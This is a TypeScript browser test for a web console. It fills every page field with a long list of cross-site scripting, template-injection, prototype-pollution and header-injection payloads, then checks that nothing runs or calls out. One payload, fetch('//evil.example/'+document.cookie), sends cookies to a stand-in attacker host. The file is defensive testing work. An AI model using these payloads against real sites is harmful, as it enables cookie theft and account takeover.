import assert from 'node:assert/strict'
import { test } from 'node:test'
import { ADMINISTRATION, browser, PAGES, server, skip } from './pages.ts'

/** Texts that run in a careless page, in every field of every page. */

const RUNS = ['hostile=1', 'alert(1)', "fetch('//evil.example/'+document.cookie)", 'top.hostile=1', 'eval(name)']

const FORMS: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `</script><script>${script}</script>`,
  (script) => `<img src=x onerror="${script}">`,
  (script) => `"><img src=x onerror=${script}>`,
  (script) => `'><svg onload=${script}>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  (script) => `<math><mtext></table><img src onerror=${script}>`,
  (script) => `<iframe srcdoc="<script>${script}</script>">`,
  (script) => `<iframe src="javascript:${script}">`,
  (script) => `<object data="javascript:${script}">`,
  (script) => `<a href="javascript:${script}">a</a>`,
  (script) => `javascript:${script}`,
  (script) => `JaVaScRiPt:${script}`,
  (script) => `java\tscript:${script}`,
  (script) => `\u0001javascript:${script}`,
  (script) => `data:text/html,<script>${script}</script>`,
  (script) => `vbscript:${script}`,
  (script) => `<body onload=${script}>`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<video><source onerror="${script}">`,
  (script) => `<style>@import 'javascript:${script}';</style>`,
  (script) => `<link rel=stylesheet href="data:,*{x:${script}}">`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `<base href="//evil.example/"><script src=x>${script}</script>`,
  (script) => `<form action="javascript:${script}"><button>x`,
  (script) => `<x onclick=${script} tabindex=1 autofocus onfocus=${script}>`,
  (script) => `<template><img src onerror=${script}></template>`,
  (script) => `<noscript><p title="</noscript><img src onerror=${script}>">`,
  (script) => `<!--<img src="--><img src=x onerror=${script}//">`,
  (script) => `<![CDATA[><img src onerror=${script}>]]>`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => `\${${script}}`,
  (script) => `<%= ${script} %>`,
  (script) => `#{${script}}`,
  (script) => `';${script};//`,
  (script) => `";${script};//`,
  (script) => `\`;${script};//`,
  (script) => `\\u003cscript\\u003e${script}\\u003c/script\\u003e`,
  (script) => `&lt;script&gt;${script}&lt;/script&gt;`,
  (script) => `&#60;img src onerror=${script}&#62;`,
  (script) => `%3Cscript%3E${script}%3C/script%3E`,
  (script) => `＜script＞${script}＜/script＞`,
  (script) => `<scr\u0000ipt>${script}</scr\u0000ipt>`,
  (script) => `\u202e<script>${script}</script>`,
  (script) => `\u2028<img src onerror=${script}>\u2029`,
  (script) => `\u001b[2J\u001b]8;;javascript:${script}\u0007x\u001b]8;;\u0007`,
  (script) => `=HYPERLINK("javascript:${script}")`,
  (script) => `../../console/session?${script}#${script}`,
  (script) => `__proto__[hostile]=${script}`,
  (script) => `{"__proto__":{"hostile":"${script}"}}`,
  (script) => `$$typeof Symbol.for('react.element') ${script}`,
]

const ODD = [
  ...[
    '',
    ' ',
    'null',
    'undefined',
    'NaN',
    '0',
    '-0',
    'true',
    '[object Object]',
    '__proto__',
    'constructor',
    'toString',
  ],
  ...['hasOwnProperty', '.', '..', '/', '//evil.example/', '\\\\evil.example\\x', '?', '#', '%', '%00', '\0', '\ufeff'],
  ...[
    '\u202eevil\u202c',
    '\u2066\u2069',
    'مرحبا بالعالم',
    'עברית 123',
    '\u200f\u200e',
    'Z\u0351\u036b\u0343'.repeat(60),
  ],
  ...[
    '👩‍👩‍👧‍👦'.repeat(20),
    '\ud800',
    '\udfff',
    'ﷺ'.repeat(30),
    '𝕳𝖊𝖑𝖑𝖔',
    '\u0007\u0008\u007f',
    'a\r\nSet-Cookie: a=1',
    '\t\t\t',
  ],
]

export const HOSTILE: readonly string[] = [
  ...FORMS.flatMap((form) => RUNS.map((script) => form(script))),
  ...FORMS.flatMap((form) => RUNS.map((script) => form(script).toUpperCase())).slice(0, 200),
  ...ODD,
]

/** Without a place to break a line. */
export const LONG = ['W'.repeat(5_000), `https://${'w'.repeat(250)}.example/${'a'.repeat(2_000)}`, 'ש'.repeat(3_000)]

const paths = [...PAGES, ...ADMINISTRATION].filter((path) => path !== '/unknown')

/**
 * A test that opens pages whose texts are these, and finds that nothing ran, nothing was refused by the policy, and the
 * page is as wide as before.
 * @param isWhole also where a field never has so long a text; the width is not looked at then
 */
export function testHostile(name: string, texts: readonly string[], width: number, isWhole = false): void {
  test(`${name} run nothing and break no page, ${width} px`, { skip }, async () => {
    let at = 0
    server.answer((maxLength) => (texts[at++ % texts.length] ?? '').slice(0, isWhole ? undefined : maxLength))
    const context = await browser.newContext({ viewport: { width, height: 800 } })
    const faults: string[] = []
    const all: string[] = []
    await context.exposeFunction('reportHostile', (text: string) => faults.push(text))
    await context.addInitScript(
      `addEventListener('securitypolicyviolation', ({ violatedDirective, sample }) => reportHostile(violatedDirective + ' ' + sample))`,
    )
    for (const path of paths) {
      const page = await context.newPage()
      page.on('pageerror', (error) => faults.push(String(error)))
      page.on('dialog', (dialog) => {
        faults.push(`a dialog: ${dialog.message()}`)
        void dialog.dismiss()
      })
      page.on('request', (request) => {
        if (!request.url().startsWith(server.address)) faults.push(`a request to ${request.url()}`)
      })
      await page.goto(`${server.address}/console${path}`)
      await page.locator('h1, [role=alert], main h2').first().waitFor()
      const [ran, excess, links] = await page.evaluate<[boolean, number, string[]]>(`[
        'hostile' in window || {}.hostile !== undefined || document.querySelector('main script, main iframe, main object, main base, main meta, main style, main img, main form[action]') !== null,
        document.documentElement.scrollWidth - document.documentElement.clientWidth,
        [...document.querySelectorAll('a')].map(({ href }) => href),
      ]`)
      if (ran) faults.push('a text became an element, or ran')
      if (excess > 0 && !isWhole) faults.push(`scrolls sideways by ${excess} px`)
      faults.push(...links.filter((href) => !href.startsWith(`${server.address}/console`)))
      all.push(...faults.splice(0).map((fault) => `${path}: ${fault}`))
      await page.close()
    }
    await context.close()
    assert.deepEqual(all, [])
  })
}
